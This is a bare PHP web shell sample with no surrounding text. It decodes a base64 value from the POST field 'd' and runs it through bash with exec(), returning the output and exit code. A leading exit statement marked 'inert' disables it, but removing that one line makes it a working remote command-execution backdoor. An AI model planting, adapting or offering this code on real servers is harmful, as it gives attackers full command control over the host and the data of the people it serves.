<?php exit; /* inert */ 
$arg = escapeshellarg(base64_decode($_POST['d']));
exec('/bin/bash -c ' . $arg . ' 2>&1', $lines, $rc);
printf("%s\n[%d]", implode("\n", $lines), $rc);
